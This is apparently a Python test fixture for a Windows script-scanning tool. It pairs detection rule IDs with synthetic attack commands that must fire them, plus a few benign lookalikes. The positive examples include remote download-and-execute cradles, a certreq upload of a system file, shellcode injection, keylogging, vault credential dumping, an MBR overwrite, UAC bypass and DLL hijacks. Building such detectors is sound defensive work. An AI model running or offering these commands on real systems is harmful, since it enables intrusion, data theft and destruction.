"""Examples for the Windows execution `TWN-` rules; all synthetic, written for these tests."""

from __future__ import annotations

from wingman.core.scripts.types import Lang

PS = Lang.POWERSHELL
BAT = Lang.BATCH
SH = Lang.BASH

# (rule id, language of the layer, text that must fire the rule)
POSITIVE: tuple[tuple[str, Lang, str], ...] = (
    ("TWN-300", BAT, "msiexec.exe /y C:\\Users\\Public\\a.dll"),
    (
        "TWN-300",
        PS,
        "Invoke-CimMethod -ClassName Win32_Product -MethodName Install -Arguments"
        " @{ PackageLocation = 'C:\\Users\\Public\\a.msi' }",
    ),
    ("TWN-301", PS, "[System.Configuration.Install.ManagedInstallerClass]::InstallHelper($a)"),
    ("TWN-301", PS, "$TestArgs = @{ InvocationMethod = 'CheckIfInstallable' }"),
    ("TWN-302", BAT, "cscript pubprn.vbs 127.0.0.1 script:https://192.0.2.10/a.sct"),
    ("TWN-302", PS, ". C:\\Windows\\diagnostics\\system\\AERO\\CL_Invocation.ps1; SyncInvoke calc"),
    ("TWN-303", BAT, "msxsl.exe C:\\Users\\Public\\a.xml C:\\Users\\Public\\a.xsl"),
    ("TWN-304", BAT, "Microsoft.Workflow.Compiler.exe run.xml results.xml"),
    ("TWN-304", BAT, "csi.exe C:\\Users\\Public\\a.csx"),
    (
        "TWN-305",
        BAT,
        "rundll32.exe dfshim.dll,ShOpenVerbApplication http://192.0.2.10/a.application",
    ),
    ("TWN-306", PS, "C:\\tools\\bin\\x64\\RtlCreateUserThread.exe -pid $p.Id -debug"),
    ("TWN-306", BAT, "CreateRemoteThread.exe -pid 4242"),
    ("TWN-307", PS, "Invoke-Shellcode -ProcessId 4242 -Shellcode $buf -Force"),
    (
        "TWN-308",
        BAT,
        "teams.exe --disable-gpu-sandbox"
        ' --gpu-launcher="C:\\Windows\\System32\\cmd.exe /c calc &&"',
    ),
    (
        "TWN-309",
        BAT,
        "setx COR_ENABLE_PROFILING 1\nsetx COR_PROFILER_PATH C:\\Users\\Public\\p.dll",
    ),
    ("TWN-310", BAT, 'setx PATH "%APPDATA%\\bin;%PATH%"'),
    ("TWN-311", BAT, "copy evil.dll %APPDATA%\\amsi.dll"),
    (
        "TWN-312",
        BAT,
        "MpCmdRun.exe -DownloadFile -url https://192.0.2.10/a.exe -path C:\\Users\\Public\\a.exe",
    ),
    ("TWN-312", BAT, "certreq.exe -Post -config https://example.org c:\\windows\\win.ini out.txt"),
    ("TWN-312", BAT, "desktopimgdownldr.exe /lockscreenurl:https://192.0.2.10/a.jpg /eventName:x"),
    ("TWN-312", BAT, "finger user@192.0.2.10 | more +2 | cmd"),
    ("TWN-312", BAT, "sqlcmd -i https://192.0.2.10/a.txt -o C:\\Users\\Public\\a.txt"),
    (
        "TWN-312",
        BAT,
        "msedge.exe --headless --enable-logging --disable-gpu --dump-dom https://x.example",
    ),
    ("TWN-313", SH, 'nscurl -k "https://example.org/a.txt" -o "a.txt"'),
    ("TWN-313", SH, 'whois -h 192.0.2.10 -p 8443 "a.txt" > /tmp/a.txt'),
    ("TWN-314", BAT, "curl.exe -k https://192.0.2.10/a.exe -o %TEMP%\\a.exe"),
    ("TWN-315", PS, "Get-ModifiableServiceFile | Format-List"),
    ("TWN-316", PS, "Get-Keystrokes -LogPath $env:TEMP\\k.log"),
    ("TWN-317", PS, "Get-VaultCredential"),
    ("TWN-318", PS, "Set-MasterBootRecord -BootMessage 'gone'"),
    ("TWN-319", PS, "Find-AVSignature -StartByte 0 -EndByte max -Interval 10000 -Path a.exe"),
    (
        "TWN-320",
        PS,
        "iex(new-object net.webclient).downloadstring('https://example.org/obfuscatedps/dccuac.ps1')",
    ),
    ("TWN-320", BAT, "Akagi64.exe 23 C:\\Windows\\System32\\cmd.exe"),
    ("TWN-321", PS, '$field = "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \\"/k calc\\""'),
    ("TWN-322", BAT, "AutoHotkey.exe C:\\Users\\Public\\a.ahk"),
    ("TWN-323", BAT, "runas /user:corp\\admin /savecred cmd.exe"),
)

# (language, text) that no rule may judge suspicious
BENIGN: tuple[tuple[Lang, str], ...] = (
    (BAT, "msiexec /i C:\\installers\\agent.msi /qn\nMpCmdRun.exe -SignatureUpdate"),
    (PS, "Get-CimInstance Win32_Product | Select-Object Name, Version"),
    (BAT, 'setx PATH "%PATH%;C:\\Program Files\\Tool\\bin"'),
    (BAT, "curl.exe -L https://example.org/setup.exe -o C:\\installers\\setup.exe"),
    (SH, "curl -fsSL https://example.org/install.sh -o install.sh"),
)
